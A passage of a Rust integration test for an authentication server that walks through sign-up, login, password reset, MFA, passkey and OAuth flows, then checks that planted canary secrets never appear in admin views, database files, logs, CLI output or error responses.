    let spoilt = format!("{}{end}", &token[..token.len() - 2]);
    let refused =
        notes.post("/v1/auth/verify-email", "", json!({ "token": spoilt, "password": FIRST })).await;
    assert!((400..500).contains(&refused.status), "{}", refused.text);
    let body = json!({ "verification_id": verification, "code": mail["code"] });
    let entered = notes.post("/v1/auth/verify-email", "", body).await;
    assert_eq!(entered.status, 200, "{}", entered.text);
    let ada = entered.str("/user/id");

    // In and out, right and wrong, by token and by cookie.
    let wrong = notes.post("/v1/auth/login", "", json!({ "email": ADA, "password": MISTYPED })).await;
    assert_eq!(wrong.refusal(), "401 invalid_credentials");
    let entered = notes.login(ADA, FIRST).await;
    let refreshed =
        notes.post("/v1/auth/refresh", "", json!({ "refresh_token": entered.str("/refresh_token") })).await;
    assert_eq!(refreshed.status, 200, "{}", refreshed.text);
    let out =
        notes.post("/v1/auth/logout", "", json!({ "refresh_token": refreshed.str("/refresh_token") })).await;
    assert_eq!(out.status, 204, "{}", out.text);
    let late =
        notes.post("/v1/auth/refresh", "", json!({ "refresh_token": refreshed.str("/refresh_token") })).await;
    assert_eq!(late.status, 401, "{}", late.text);
    assert_eq!(notes.get("/v1/me", &refreshed.str("/access_token")).await.refusal(), "401 session_ended");
    assert_eq!(
        notes.get(&format!("/v1/me?access_token={}", entered.str("/access_token")), "").await.status,
        401
    );
    notes.wait("1m").await;
    let body = json!({ "email": ADA, "password": FIRST, "transport": "cookie", "device_name": "phone" });
    assert_eq!(notes.post("/v1/auth/login", "", body).await.status, 200);

    // Another password: by the old one, and by a mail.
    let access = notes.login(ADA, FIRST).await.str("/access_token");
    for (current, new) in [(MISTYPED, SECOND), (FIRST, REFUSED)] {
        let body = json!({ "current_password": current, "new_password": new });
        let refused = notes.change(Method::PUT, "/v1/me/password", &access, body).await;
        assert!((400..500).contains(&refused.status), "{}", refused.text);
    }
    let body = json!({ "current_password": FIRST, "new_password": SECOND });
    let changed = notes.change(Method::PUT, "/v1/me/password", &access, body).await;
    assert_eq!(changed.status, 200, "{}", changed.text);
    notes.wait("1m").await;
    assert_eq!(notes.post("/v1/auth/forgot-password", "", json!({ "email": ADA })).await.status, 202);
    let mail = notes.mail(ADA, "password_reset").await;
    let link = strings(&mail["links"])[0].clone();
    let opened = notes.get(link.strip_prefix(notes.api.url.as_str()).unwrap(), "").await;
    assert_eq!(opened.status, 303, "{}", opened.text);
    notes.allow(&token_of(&link), "the page behind a mailed link puts it into a cookie");
    let refused = json!({ "token": token_of(&link), "password": REFUSED });
    assert_eq!(notes.post("/v1/auth/reset-password", "", refused).await.status, 422);
    let body = json!({ "token": token_of(&link), "password": THIRD });
    let reset = notes.post("/v1/auth/reset-password", "", body.clone()).await;
    assert!((200..300).contains(&reset.status), "{}", reset.text);
    let used = notes.post("/v1/auth/reset-password", "", body).await;
    assert!((400..500).contains(&used.status), "{}", used.text);

    // A link instead of a password, and another address.
    notes.wait("1m").await;
    assert_eq!(notes.post("/v1/auth/magic-link", "", json!({ "email": ADA })).await.status, 202);
    let mail = notes.mail(ADA, "magic_link").await;
    let body = json!({ "token": token_of(&strings(&mail["links"])[0]) });
    let entered = notes.post("/v1/auth/magic-link/consume", "", body.clone()).await;
    assert_eq!(entered.status, 200, "{}", entered.text);
    let used = notes.post("/v1/auth/magic-link/consume", "", body).await;
    assert!((400..500).contains(&used.status), "{}", used.text);
    let access = notes.login(ADA, THIRD).await.str("/access_token");
    let asked = notes.post("/v1/me/email", &access, json!({ "email": MOVED })).await;
    assert_eq!(asked.status, 202, "{}", asked.text);
    let mail = notes.mail(MOVED, "email_change").await;
    let moved = notes.post("/v1/me/email/confirm", &access, json!({ "code": mail["code"] })).await;
    assert_eq!(moved.status, 200, "{}", moved.text);
    notes.mail(ADA, "email_changed").await;

    // Second factors: an app, its codes, what replaces it, a passkey.
    notes.wait("1m").await;
    let access = notes.login(MOVED, THIRD).await.str("/access_token");
    let (hers, recovery) = notes.enrol(&access).await;
    let half = notes.login(MOVED, THIRD).await.str("/mfa_token");
    for (kind, code) in [("totp", "000000"), ("recovery", "aaaa-aaaa-aaaa-aaaa"), ("recovery_code", FIRST)] {
        let body = json!({ "mfa_token": half, "type": kind, "code": code });
        let refused = notes.post("/v1/auth/mfa", "", body).await;
        assert!((400..500).contains(&refused.status), "{}", refused.text);
    }
    notes.wait("1m").await;
    let half = notes.login(MOVED, THIRD).await.str("/mfa_token");
    let body = json!({ "mfa_token": half, "type": "recovery_code", "code": recovery[0] });
    let entered = notes.post("/v1/auth/mfa", "", body).await;
    assert_eq!(entered.status, 200, "{}", entered.text);
    notes.wait("1m").await;
    let access = notes.login_with(MOVED, THIRD, &hers).await;
    let begun = notes.post("/v1/me/passkeys/start", &access, json!({})).await;
    assert_eq!(begun.status, 200, "{}", begun.text);
    let challenge = begun.str("/challenge_id");
    notes.plant("challenge", &challenge, "whoever shows a passkey says what was asked");
    let credential = SoftKey::p256().create(&begun.json["options"], &notes.api.url);
    let body = json!({ "challenge_id": challenge, "credential": credential });
    let kept = notes.post("/v1/me/passkeys/finish", &access, body.clone()).await;
    assert_eq!(kept.status, 200, "{}", kept.text);
    let twice = notes.post("/v1/me/passkeys/finish", &access, body).await;
    assert!((400..500).contains(&twice.status), "{}", twice.text);

    // Somebody comes from elsewhere.
    let started = notes.get("/v1/auth/oauth/dev/start", "").await;
    assert_eq!(started.status, 200, "{}", started.text);
    let cookie = started.header("set-cookie").split(';').next().unwrap().to_owned();
    assert!(cookie.starts_with(COOKIE), "{cookie}");
    let person = forms(&started.text).into_iter().find(|form| form["code"] == "verified").unwrap();
    notes.plant("OAuth state", &person["state"], "the provider is sent it by way of the browser");
    let body = serde_urlencoded::to_string([("state", &person["state"]), ("code", &person["code"])]).unwrap();
    let mine = |path: &str, cookie: &str| {
        let request = notes.request(Method::POST, path, "").header("origin", notes.api.url.as_str());
        request.header("cookie", cookie)
    };
    let form = mine("/v1/auth/oauth/dev/callback", &cookie)
        .header("content-type", "application/x-www-form-urlencoded");
    let arrived = notes.send("a callback", form.body(body)).await;
    assert_eq!(arrived.status, 303, "{}", arrived.text);
    let code = parameter(arrived.header("location"), "code").unwrap();
    let newer = arrived.header("set-cookie").split(';').next().unwrap();
    let cookie = if newer.starts_with(COOKIE) && newer != COOKIE { newer } else { cookie.as_str() };
    notes.plant("one-time code", &code, "the application is sent it by way of the browser");
    let entered = notes.send("an exchange", mine(EXCHANGE, cookie).json(&json!({ "code": code }))).await;
    assert_eq!(entered.status, 200, "{}", entered.text);
    let twice = notes.send("an exchange", mine(EXCHANGE, cookie).json(&json!({ "code": code }))).await;
    assert!((400..500).contains(&twice.status), "{}", twice.text);
    for mail in notes.api.get("/dev/v1/messages").await.json["items"].as_array().unwrap() {
        notes.mailed(mail);
    }
    Left { seed, ada, hook: hook.str("/id"), receiver, _idp: idp }
}

/// Somebody's mail waits because nobody takes mails; what `look` sees meanwhile, and then the mail.
async fn waiting<T, F: Future<Output = T>>(notes: &Notes, owner: &str, look: impl FnOnce() -> F) -> T {
    let fault = |fault: &'static str| notes.api.put("/dev/v1/faults/mail.primary", json!({ "fault": fault }));
    assert_eq!(fault("down").await.status, 204);
    let body = json!({ "email": LATE, "password": LATES });
    assert_eq!(notes.post("/v1/auth/register", "", body).await.status, 202);
    until("a mail waits", PATIENCE, || async {
        let jobs = notes.api.get_as("/v1/admin/jobs?kind=mail.deliver", owner).await;
        let jobs = jobs.json["items"].as_array().unwrap().clone();
        jobs.iter().any(|job| !job["history"].as_array().unwrap().is_empty()).then_some(())
    })
    .await;
    let jobs = notes.get("/v1/admin/jobs?kind=mail.deliver", owner).await;
    assert_eq!(jobs.status, 200, "{}", jobs.text);
    let seen = look().await;
    assert_eq!(fault("none").await.status, 204);
    let mail = until("the mail arrives", PATIENCE, || async {
        notes.wait("1m").await;
        let path = format!("/dev/v1/messages?to={LATE}&kind=verify_email");
        notes.api.get(&path).await.json["items"].as_array().unwrap().first().cloned()
    })
    .await;
    notes.mailed(&mail);
    seen
}

/// What operators are shown, and who scrapes.
async fn shown(notes: &Notes, left: &Left) {
    let owner = notes.login_with(OWNER, OWNERS, &left.seed).await;
    let (ada, hook) = (&left.ada, &left.hook);
    let mut paths: Vec<String> = [
        "users",
        "roles",
        "api-keys",
        "jobs",
        "mail",
        "webhooks",
        "providers",
        "dependencies",
        "signing-keys",
        "audit",
        "settings",
    ]
    .map(|list| format!("/v1/admin/{list}"))
    .into();
    paths.extend(["", "/sessions", "/roles"].map(|rest| format!("/v1/admin/users/{ada}{rest}")));
    paths.extend(["", "/deliveries"].map(|rest| format!("/v1/admin/webhooks/{hook}{rest}")));
    paths.extend(["jobs", "mail", "audit"].map(|list| format!("/v1/admin/{list}?limit=200")));
    paths.extend(["/metrics", "/health/dependencies", "/v1/revocations"].map(str::to_owned));
    for path in paths {
        let shown = notes.get(&path, &owner).await;
        assert_eq!(shown.status, 200, "{path}: {}", shown.text);
        notes.silent(&path, &shown.text, |_| true);
        assert!(!shown.text.contains("$argon2"), "{path} shows a hash: {}", shown.text);
        if path == "/v1/admin/users" {
            assert!(shown.text.contains(PLANTED), "the trap: what is no secret is there");
        }
    }
    for heard in left.receiver.all() {
        notes.silent("a webhook", &heard.raw, |_| true);
    }
}

/// What a database holds: nothing that could be used, and of passwords their hashes, where they belong.
fn stored(notes: &Notes, tables: &[(String, String)]) {
    assert!(tables.len() > 50, "{} tables", tables.len());
    for (table, text) in tables {
        notes.silent(table, text, |one| !one.short || TOLD.contains(&table.as_str()));
        if text.contains("$argon2") {
            assert!(HASHES.iter().any(|(place, _)| place == table), "a hash is in {table}");
        }
    }
    let text =
        |name: &str| tables.iter().find(|(table, _)| table == name).map(|(_, text)| text.as_str()).unwrap();
    assert!(text("password_credentials").contains("$argon2"), "the trap: there are hashes");
    assert!(text("users").contains(PLANTED), "the trap: what is stored in plain is found");
    assert!(text("audit_events").contains("sign_in"), "the trap: the trail was read");
}

/// What printing a value shows, for whoever writes it into a log.
fn printed(notes: &Notes, what: &str, value: &impl Debug) {
    let text = format!("{value:?} {value:#?}");
    notes.silent(what, &text, |_| true);
}

both_with! { true, SETTINGS;
    async fn a85_osvdb_118830_secrets_in_logs_errors_and_dumps(app: &TestApp) {
        let notes = Notes::of(&app.url);
        let key = std::fs::read_to_string(app.dir.path().join("dev-master.key")).unwrap();
        notes.plant("master key", key.trim(), "");
        let link = setup::link(&app.app).await.unwrap().unwrap();
        let left = flows(&notes, &link).await;
        let owner = notes.login_with(OWNER, OWNERS, &left.seed).await;
        let meanwhile = waiting(&notes, &owner, || tables(app)).await;
        app.quiet().await;
        left.receiver.take(1).await;
        shown(&notes, &left).await;
        stored(&notes, &meanwhile);
        stored(&notes, &tables(app).await);
        printed(&notes, "the settings", &app.app.settings);
        printed(&notes, "a secret", &Secret::new(FIRST.to_owned()));
        let bytes: [u8; 32] = BASE64.decode(key.trim().as_bytes()).unwrap().try_into().unwrap();
        printed(&notes, "the master keys", &MasterKeys::new(bytes, &[]));

        // The database fails in the midst of it.
        app.sql("ALTER TABLE user_emails RENAME TO hidden_emails").await;
        failing(&notes).await;
        app.sql("ALTER TABLE hidden_emails RENAME TO user_emails").await;
        notes.answers_are_silent();
        app.quiet().await;
        if app.engine == Engine::Sqlite {
            in_a_program_of_its_own().await;
        }
        // Left out: a panic inside a handler (none is known to be had), a core dump, and the private half of a passkey, which
        // never leaves the authenticator.
    }
}

/// Sign-ins while a table is away.
async fn failing(notes: &Notes) {
    for (path, body) in [
        ("/v1/auth/login", json!({ "email": MOVED, "password": THIRD })),
        ("/v1/auth/login", json!({ "email": MOVED, "password": MISTYPED })),
    ] {
        let failed = notes.broken(path, notes.request(Method::POST, path, "").json(&body)).await;
        assert!(failed.status >= 500, "{path}: {} {}", failed.status, failed.text);
        for word in ["user_emails", "SELECT", "no such table", "relation", ".rs:"] {
            assert!(!failed.text.contains(word), "{path}: {}", failed.text);
        }
    }
}

/// The bytes of a database that another process has open.
fn bytes_of(data: &Path) -> String {
    let mut all = String::new();
    for name in ["pearlgate.db", "pearlgate.db-wal"] {
        all.push_str(&latin(&std::fs::read(data.join(name)).unwrap_or_default()));
    }
    assert!(all.contains("SQLite format 3"), "no database is at {}", data.display());
    all
}

/// The same with a log of its own, files, and commands.
async fn in_a_program_of_its_own() {
    let dir = tempfile::tempdir().unwrap();
    let (data, config) = (dir.path().join("data"), dir.path().join("more.toml"));
    std::fs::write(&config, SETTINGS).unwrap();
    let with = |call: Call| call.arg("--config").arg(config.to_str().unwrap());
    let server = with(dev(&data)).set("log.level", "debug").start().await;
    let notes = Notes::of(&server.url);
    let key = std::fs::read_to_string(data.join("dev-master.key")).unwrap();
    notes.plant("master key", key.trim(), "");
    let link = first_link(&server).await;
    let left = flows(&notes, &link).await;
    let owner = notes.login_with(OWNER, OWNERS, &left.seed).await;
    let file = data.join("pearlgate.db");
    let (tables, bytes) = waiting(&notes, &owner, || async { (tables_of(&file), bytes_of(&data)) }).await;
    left.receiver.take(1).await;
    shown(&notes, &left).await;
    stored(&notes, &tables);
    stored(&notes, &tables_of(&file));
    for (when, bytes) in [("while a mail waits", bytes), ("at the end", bytes_of(&data))] {
        notes.silent(&format!("the database's file, {when},"), &bytes, |one| !one.short);
        assert!(bytes.contains(PLANTED), "the trap: what is stored in plain is found in the file");
        assert!(bytes.contains("$argon2"), "the trap: it was read where hashes are");
    }

    let hidden = |sql: &str| rusqlite::Connection::open(&file).unwrap().execute_batch(sql).unwrap();
    hidden("ALTER TABLE user_emails RENAME TO hidden_emails");
    failing(&notes).await;
    hidden("ALTER TABLE hidden_emails RENAME TO user_emails");
    notes.answers_are_silent();

    // What the program says to whoever sits at the server; the settings with every secret that there is a place for.
    let every = dir.path().join("every.toml");
    let more = "[database]\nurl = \"postgres://ada:canary-of-the-database@db.example.com/pearlgate\"\n\
                [redis]\nurl = \"redis://:canary-of-redis@redis.example.com\"\n\
                [mailers.spare]\nkind = \"postmark\"\nkey = \"canary-of-a-mailer\"\nevents_secret = \"canary:of-its-events\"\n";
    std::fs::write(&every, format!("{SETTINGS}{more}")).unwrap();
    for (name, text) in [
        ("database's password", "canary-of-the-database"),
        ("Redis' password", "canary-of-redis"),
        ("mailer's key", "canary-of-a-mailer"),
        ("mailer's events", "canary:of-its-events"),
    ] {
        notes.plant(name, text, "");
    }
    let show = ["config", "show", "--config", every.to_str().unwrap(), "--data", data.to_str().unwrap()];
    let show = pearlgate(&show).set("secrets.master_key", key.trim()).run().await;
    assert!(show.went_well().matches("(hidden)").count() >= 7, "{}", show.out);
    let doctor =
        pearlgate(&["doctor", "--config", config.to_str().unwrap(), "--data", data.to_str().unwrap()]);
    let doctor = doctor.set("secrets.master_key", key.trim()).run().await;
    assert!(doctor.out.contains("database"), "{doctor:?}");
    for (what, text) in [("config show", format!("{show:?}")), ("doctor", format!("{doctor:?}"))] {
        notes.silent(what, &text, |_| true);
    }

    let (log, said) = (server.err.clone(), server.out.clone());
    server.stop().await;
    log.with("stopping").await;
    let lines = log.all();
    assert!(
        lines.iter().any(|line| line.contains("the database failed a request")),
        "the trap: failures are told"
    );
    let people = ["$argon2", ADA, MOVED, LATE, PLANTED, OWNER];
    for line in &lines {
        notes.silent("the log", line, |_| true);
        assert!(people.iter().all(|word| !line.contains(word)), "somebody is in the log: {line}");
    }
    for line in said.all() {
        // But for the link of the first start: it is said there, and nowhere else.
        notes.silent("standard output", &line, |one| one.name != "set-up token");
        assert!(people.iter().all(|word| !line.contains(word)), "somebody is in what is said: {line}");
    }
    for line in &lines {
        record(line);
        // The link of the first start is for whoever starts the server, on standard output; a log is read by others.
        assert!(!line.contains("pgf_"), "a set-up link is in the log: {line}");
    }
    let canaries = notes.canaries();
    let kinds: BTreeSet<&str> = canaries.iter().map(|one| one.name).collect();
    assert!(kinds.len() >= 20 && canaries.len() >= 60, "{} of {kinds:?}", canaries.len());
}
